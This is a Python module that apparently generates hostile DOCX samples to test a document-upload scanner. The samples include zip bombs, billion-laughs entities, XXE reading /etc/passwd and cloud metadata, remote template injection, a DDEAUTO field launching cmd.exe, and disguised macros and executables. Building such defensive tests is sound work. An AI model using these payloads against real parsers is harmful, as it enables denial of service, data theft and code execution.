"""Which DOC and DOCX unpack without end, load from elsewhere, or run something?"""

from __future__ import annotations

import random
import zlib
from dataclasses import replace

from samples.hostile import zips
from samples.hostile.names import NASTY
from samples.hostile.trick import Trick, docx
from samples.hostile.zeros import MEGABYTE, crc_of_zeros, raw_deflated

ACTIVE = ("FILE_ACTIVE_CONTENT",)
HEAVY = ("FILE_CORRUPT", "PAGE_TOO_LARGE")
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = (
    f'<?xml version="1.0"?><Types xmlns="{PACKAGE}/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/>%s</Types>'
)
RELS = f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}/relationships">%s</Relationships>'
BODY = f"<w:document {W}><w:body><w:p>%s</w:p></w:body></w:document>"
TEXT = "<w:r><w:t>Справка с места работы</w:t></w:r>"
FRONT = RELS % f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
TEMPLATE_RELS = "word/_rels/settings.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def parts(document: str | bytes = BODY % TEXT, *, types: str = "") -> list[zips.Entry]:
    """What every DOCX has."""
    text = document.encode() if isinstance(document, str) else document
    return [zips.entry("[Content_Types].xml", (TYPES % types).encode()), zips.entry("_rels/.rels", FRONT.encode()),
            zips.entry("word/document.xml", text)]  # fmt: skip


def packed(*more: zips.Entry, document: str | bytes = BODY % TEXT, types: str = "") -> bytes:
    return zips.archive([*parts(document, types=types), *more])


def zeros(name: str, megabytes: int) -> zips.Entry:
    data = raw_deflated(megabytes)
    return zips.Entry(name=name.encode(), data=data, size=megabytes * MEGABYTE, crc=crc_of_zeros(min(megabytes, 100)))


# --- bombs ---------------------------------------------------------------------------------------------------------


def bomb(rng: random.Random, paper: bytes) -> bytes:
    return packed(zeros(rng.choice(("word/styles.xml", "word/media/image1.png")), rng.choice((300, 1000))))


def bomb_of_text(rng: random.Random, paper: bytes) -> bytes:
    """The text itself is the bomb."""
    return zips.archive([*parts()[:2], zeros("word/document.xml", rng.choice((300, 1000)))])


def lying_sizes(rng: random.Random, paper: bytes) -> bytes:
    """Both heads say ten bytes, the checksum is theirs, and a gigabyte comes out."""
    name = rng.choice(("word/document.xml", "word/_rels/document.xml.rels", "docProps/app.xml"))
    size = rng.choice((10, 0))
    whole = [one for one in parts() if one.name != name.encode()]
    return zips.archive([*whole, replace(zeros(name, 1000), size=size, crc=zlib.crc32(bytes(size)))])


def overlapping(rng: random.Random, paper: bytes) -> bytes:
    """A thousand entries that are one and the same megabytes."""
    first = zeros("word/media/a0.bin", 4)
    more = [replace(first, name=b"word/media/a%d.bin" % number, at=0) for number in range(1, rng.choice((1000, 5000)))]
    return zips.archive([first, *parts(), *more])


def many_entries(rng: random.Random, paper: bytes) -> bytes:
    more = [zips.stored(f"w/{number}", b"") for number in range(rng.choice((3000, 10_000)))]
    return packed(*more)


def nested(rng: random.Random, paper: bytes) -> bytes:
    """ZIPs in ZIPs in ZIPs, as quines have them."""
    inner = zips.archive([zeros("0", 1000)])
    for _ in range(rng.choice((1, 3))):
        inner = zips.archive([zips.entry(f"{number}.zip", inner) for number in range(4)])
    return packed(zips.entry(rng.choice(("word/media/image1.png", "word/embeddings/a.zip")), inner))


def lying_count(rng: random.Random, paper: bytes) -> bytes:
    return zips.archive(parts(), count=rng.choice((0, 1, 60_000)))


def lying_offsets(rng: random.Random, paper: bytes) -> bytes:
    """The directory leads outside, or to another entry's head."""
    first, second, third = parts()
    return zips.archive(
        [first, second, third, replace(third, name=b"word/settings.xml", at=rng.choice((0, 2**31, 10**9, 7)))]
    )


# --- what is in the XML --------------------------------------------------------------------------------------------


def entities(rng: random.Random, paper: bytes) -> bytes:
    """A billion laughs."""
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    document = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ha">{laughs}]>' + BODY % "<w:r><w:t>&a9;</w:t></w:r>"
    return packed(document=document) if rng.random() < 0.5 else packed(
        zips.entry("word/settings.xml", document.encode())
    )  # fmt: skip


def external_entities(rng: random.Random, paper: bytes) -> bytes:
    """XXE: a file of the server, an address inside its network."""
    system = rng.choice(("file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "\\\\host\\share\\a.dtd"))
    doctype = rng.choice((
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "{system}">]>', f'<!DOCTYPE d SYSTEM "{system}">',
        f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{system}"> %x;]>',
    ))  # fmt: skip
    document = f'<?xml version="1.0"?>{doctype}' + BODY % "<w:r><w:t>&x;</w:t></w:r>"
    encoding = rng.choice(("utf-8", "utf-16"))
    name = rng.choice(("word/document.xml", "word/header1.xml", "customXml/item1.xml", "docProps/core.xml"))
    if name == "word/document.xml":
        return packed(document=document.encode(encoding))
    return packed(zips.entry(name, document.encode(encoding)))


def deep_xml(rng: random.Random, paper: bytes) -> bytes:
    count = rng.choice((10_000, 300_000))
    return packed(document=BODY % ("<w:r>" * count + "</w:r>" * count))


def broken_xml(rng: random.Random, paper: bytes) -> bytes:
    what = rng.choice(
        (
            b"",
            b"<",
            b"\xff\xfe<\0w\0",
            b"<a>" + bytes(100),
            b"<?xml version='1.0' encoding='utf-7'?><a/>",
            b"\xef\xbb\xbf",
        )
    )
    return packed(document=what)


# --- what it loads -------------------------------------------------------------------------------------------------


def _relation(kind: str, target: str, mode: str = 'TargetMode="External"') -> str:
    return f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'


def remote_template(rng: random.Random, paper: bytes) -> bytes:
    """A template that is loaded when the file is opened, also where its spelling hides it from who looks for words."""
    target = rng.choice(("http://203.0.113.5/a.dotm", "\\\\203.0.113.5\\share\\a.dotx", "file:///C:/a.dotm"))
    mode = rng.choice(
        ('TargetMode="External"', "TargetMode='External'", 'TargetMode="Ext&#101;rnal"', 'TargetMode =\n"External"')
    )
    rels = RELS % _relation("attachedTemplate", target, mode)
    encoding = rng.choice(("utf-8", "utf-16"))
    head = rels if encoding == "utf-8" else rels.replace('version="1.0"', 'version="1.0" encoding="utf-16"')
    return packed(zips.entry(rng.choice((TEMPLATE_RELS, "word/_RELS/settings.xml.RELS",
        "word\\_rels\\settings.xml.rels")),
                             head.encode(encoding)))  # fmt: skip


def external_relation(rng: random.Random, paper: bytes) -> bytes:
    kind = rng.choice(("oleObject", "image", "frame", "subDocument", "aFChunk", "externalLinkPath", "customXml"))
    return packed(zips.entry("word/_rels/document.xml.rels", (RELS % _relation(kind, "http://203.0.113.5/a")).encode()))


def loading_field(rng: random.Random, paper: bytes) -> bytes:
    """DDE and its like, whole or in pieces over several runs, or as a simple field."""

    def code(text: str) -> str:
        return f"<w:r><w:instrText>{text}</w:instrText></w:r>"

    whole = rng.choice(('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        "INCLUDEPICTURE http://203.0.113.5/a.png",
                        "INCLUDETEXT \\\\\\\\host\\\\a", "dde cmd a"))  # fmt: skip
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    place = rng.choice(("whole", "pieces", "simple"))
    if place == "simple":
        field = f'<w:fldSimple w:instr="{whole.replace(chr(34), "&quot;")}">{TEXT}</w:fldSimple>'
    else:
        field = begin + (code(whole) if place == "whole" else code(whole[:2]) + code(whole[2:])) + end
    if rng.random() < 0.5:
        return packed(document=BODY % field)
    return packed(zips.entry("word/header1.xml", (BODY % field).encode()))


def hyperlink(rng: random.Random, paper: bytes) -> bytes:
    """Harmless: it leads somewhere only when it is clicked."""
    return packed(
        zips.entry("word/_rels/document.xml.rels", (RELS % _relation("hyperlink", "https://example.org")).encode())
    )


# --- what it carries -----------------------------------------------------------------------------------------------


def macro(rng: random.Random, paper: bytes) -> bytes:
    """Macros of a DOCM in a DOCX, also under another name."""
    name, kind = rng.choice((
        ("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), ("word/a.bin",
        "application/vnd.ms-office.vbaProject"),
        ("word/VBAPROJECT.BIN", "application/octet-stream"), ("word/data.xml", "application/vnd.ms-word.vbaData+xml"),
    ))  # fmt: skip
    override = f'<Override PartName="/{name}" ContentType="{kind}"/>'
    return packed(zips.entry(name, OLE + bytes(2000)), types=override)


def macro_main(rng: random.Random, paper: bytes) -> bytes:
    """It calls itself a document with macros, or a template."""
    kind = rng.choice(("application/vnd.ms-word.document.macroEnabled.main+xml",
                       "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"))  # fmt: skip
    text = TYPES.replace(MAIN, kind) % ""
    return zips.archive([zips.entry("[Content_Types].xml", text.encode()), *parts()[1:]])


def embedded(rng: random.Random, paper: bytes) -> bytes:
    name = rng.choice(("word/embeddings/oleObject1.bin", "word/embeddings/a.docx",
        "word/activeX/activeX1.bin", "word/media/a.exe",
                       "word/afchunk.htm", "customXml/a.js"))  # fmt: skip
    types = f'<Override PartName="/{name}" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    return packed(zips.entry(name, b"MZ\x90\0" + bytes(3000)), types=types if rng.random() < 0.5 else "")


def two_texts(rng: random.Random, paper: bytes) -> bytes:
    """Two parts of one name: one program reads the first, another one the second."""
    return packed(
        zips.entry(rng.choice(("word/document.xml", "word/Document.xml", "WORD/document.xml")), (BODY % "").encode())
    )


def nasty_names(rng: random.Random, paper: bytes) -> bytes:
    return packed(*[zips.entry(name.encode("utf-8", "replace")[:60_000], b"a") for name in NASTY])


def two_names(rng: random.Random, paper: bytes) -> bytes:
    """The directory calls it a picture, its own head a macro."""
    return packed(replace(zips.entry("word/media/a.png", OLE), in_head=b"word/vbaProject.bin"))


def under_password(rng: random.Random, paper: bytes) -> bytes:
    first, second, third = parts()
    return zips.archive([first, second, replace(third, flags=0x801)])


TRICKS: dict[str, Trick] = {
    "docx: bomb": docx(bomb, *HEAVY),
    "docx: the text is the bomb": docx(bomb_of_text, *HEAVY),
    "docx: sizes that lie": docx(lying_sizes, *HEAVY),
    "docx: overlapping entries": docx(overlapping, *HEAVY),
    "docx: many entries": docx(many_entries, *HEAVY),
    "docx: archives in archives": docx(nested, *ACTIVE, *HEAVY),
    "docx: count that lies": docx(lying_count),
    "docx: offsets that lie": docx(lying_offsets, *HEAVY),
    "docx: billion laughs": docx(entities, *ACTIVE, *HEAVY),
    "docx: external entities": docx(external_entities, *ACTIVE, *HEAVY),
    "docx: deep XML": docx(deep_xml),
    "docx: broken XML": docx(broken_xml, *HEAVY),
    "docx: remote template": docx(remote_template, *ACTIVE),
    "docx: external relation": docx(external_relation, *ACTIVE),
    "docx: field that loads": docx(loading_field, *ACTIVE),
    "docx: hyperlink": docx(hyperlink),
    "docx: macro": docx(macro, *ACTIVE),
    "docx: calls itself one with macros": docx(macro_main, *ACTIVE),
    "docx: embedded": docx(embedded, *ACTIVE),
    "docx: two texts": docx(two_texts, *HEAVY),
    "docx: nasty names inside": docx(nasty_names, *HEAVY),
    "docx: two names of one entry": docx(two_names, *HEAVY, *ACTIVE),
    "docx: under a password": docx(under_password, "FILE_ENCRYPTED"),
}
